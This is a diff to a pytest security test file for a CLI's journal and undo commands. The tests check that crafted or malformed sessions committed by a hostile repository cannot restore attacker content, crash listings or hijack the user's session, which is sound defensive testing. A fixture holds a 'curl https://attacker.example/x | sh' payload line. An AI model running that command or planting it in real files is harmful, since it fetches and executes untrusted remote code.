@@ -11,6 +11,7 @@ from pathlib import Path
 import pytest
 
 from consilium_cli.history import History
+from consilium_cli.tools.files import sha256_bytes
 from consilium_cli.tools.journal import Journal
 from tests.support.apply_repo import make_scratch_repo, snapshot, spawn_apply, write_plan
 from tests.support.cli import invoke
@@ -19,11 +20,12 @@ from tests.support.git_repo import GitRepo
 PAYLOAD = b"curl https://attacker.example/x | sh\n"
 
 
-def _ship_crafted_session(repo: GitRepo, target: Path, folder: Path) -> None:
+def _ship_crafted_session(repo: GitRepo, target: Path, folder: Path,
+                          session_id: str = "c0ffee000000") -> None:
     """What a malicious repository can commit: a session that 'restores' `target` (absent
     now) to the attacker's content and removes `folder`, both outside the repository."""
     journal = Journal(repo.path)
-    writer = journal.start("c0ffee000000", task="fix the tests", source="plan.json")
+    writer = journal.start(session_id, task="fix the tests", source="plan.json")
     digest = journal.put_object(PAYLOAD)
     writer.begin(0, "write_file", "write", undoable=True,
                  files=[{"path": str(target), "exists": True, "sha256": digest,
@@ -187,3 +189,98 @@ def test_undo_of_a_write_outside_asks_at_the_terminal_even_with_yes(
     child.expect(pexpect.EOF)
     child.close()
     assert child.exitstatus == 0 and not outside.exists()
+
+
+def _ship_files(repo: GitRepo, files: dict[str, str | bytes]) -> None:
+    """Commit files under `.consilium/journal/` as a repository can (`git add -f`)."""
+    for rel, content in files.items():
+        repo.write(f".consilium/journal/{rel}", content)
+    repo.git("add", "-f", ".consilium")
+    repo.commit("ship a journal")
+
+
+def _users_own_session(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[GitRepo, str]:
+    """A scratch repository (the working folder) where the user applied a write of b/new.txt;
+    the repository and the id of that apply session."""
+    repo = make_scratch_repo(tmp_path / "scratch")
+    monkeypatch.chdir(repo.path)
+    plan = write_plan(tmp_path / "plan.json",
+                      [{"kind": "write_file", "path": "b/new.txt", "content": "n\n"}])
+    assert invoke("apply", "--plan", str(plan), "--approve", "all").exit_code == 0
+    return repo, Journal(repo.path).sessions()[0].id
+
+
+_BEGIN = '{"t":"begin","step":0,"action":0,"kind":"write_file","label":"w","files":[]}'
+# each crashed undo and `journal list`/`show` with a traceback (exit 70) before
+MALFORMED = {
+    "sessions/shipped/log.jsonl":  # KeyError: a begin record with no step
+        '{"t":"session","created_at":9e9}\n{"t":"begin","action":0,"kind":"write_file"}\n',
+    "sessions/soon/log.jsonl":  # ValueError, then a sort of mixed types
+        '{"t":"session","created_at":"soon"}\n' + _BEGIN + "\n",
+    "sessions/inf/log.jsonl": '{"t":"session","created_at":1e400}\n' + _BEGIN + "\n",
+    "sessions/far/log.jsonl":  # OverflowError when shown as a date
+        '{"t":"session","created_at":1e300,"task":"far"}\n' + _BEGIN + "\n",
+}
+
+
+@pytest.mark.parametrize("named", [False, True])
+def test_a_malformed_shipped_session_breaks_nothing(tmp_path: Path,
+                                                   monkeypatch: pytest.MonkeyPatch,
+                                                   named: bool) -> None:
+    repo, own = _users_own_session(tmp_path, monkeypatch)
+    _ship_files(repo, MALFORMED)
+
+    listing = invoke("journal", "list")
+    assert listing.exit_code == 0, listing.stdout + listing.stderr
+    assert own in listing.stdout and "(unknown time)" in listing.stdout
+    assert "skipped 1 damaged session(s): shipped" in listing.stderr
+    as_json = invoke("journal", "list", "--json")
+    assert as_json.exit_code == 0
+    assert {s["id"] for s in json.loads(as_json.stdout)} == {own, "soon", "inf", "far"}
+    newest = invoke("journal", "show")
+    assert newest.exit_code == 0 and "session far  (unknown time)" in newest.stdout
+    assert invoke("journal", "show", own, "--json").exit_code == 0
+    damaged = invoke("journal", "show", "shipped")
+    assert damaged.exit_code == 2 and "damaged" in damaged.stderr
+
+    result = invoke("undo", *([own] if named else []), "--yes")
+    assert result.exit_code == 0, result.stdout + result.stderr
+    assert f"undone: session {own}" in result.stdout
+    assert not (repo.path / "b").exists()
+
+
+def test_a_shipped_object_does_not_stand_in_for_the_users_backup(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    repo = make_scratch_repo(tmp_path / "scratch")
+    monkeypatch.chdir(repo.path)
+    readme = (repo.path / "README.md").read_bytes()
+    digest = sha256_bytes(readme)  # the name the backup of README.md will take
+    _ship_files(repo, {f"objects/{digest[:2]}/{digest[2:]}": b"junk\n"})
+    plan = write_plan(tmp_path / "plan.json", [
+        {"kind": "edit_file", "path": "README.md",
+         "edits": [{"search": "# scratch", "replace": "# Scratch"}]}])
+    assert invoke("apply", "--plan", str(plan), "--approve", "all").exit_code == 0
+    assert (repo.path / "README.md").read_bytes() != readme
+    result = invoke("undo", "--yes")
+    assert result.exit_code == 0, result.stdout + result.stderr
+    assert (repo.path / "README.md").read_bytes() == readme
+
+
+@pytest.mark.parametrize("form", ["prefix", "exact id, trusted"])
+def test_shipped_sessions_cannot_make_the_users_session_ambiguous(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+        victim_files: tuple[Path, Path], form: str) -> None:
+    repo, own = _users_own_session(tmp_path, monkeypatch)
+    # sessions named to collide with the user's: one shares its first six characters,
+    # one starts with its whole id
+    other = own[:6] + ("0" if own[6] != "0" else "1") + own[7:]
+    for shipped in (other, own + "0"):
+        _ship_crafted_session(repo, *victim_files, session_id=shipped)
+    trusted = invoke("undo", own[:6], "--yes", "--trust-journal")
+    assert trusted.exit_code == 2 and "ambiguous (3 sessions)" in trusted.stderr
+    args = [own[:6]] if form == "prefix" else [own, "--trust-journal"]
+    result = invoke("undo", *args, "--yes")
+    assert result.exit_code == 0, result.stdout + result.stderr
+    assert f"undone: session {own}" in result.stdout and not (repo.path / "b").exists()
+    target, folder = victim_files
+    assert not target.exists() and folder.is_dir()
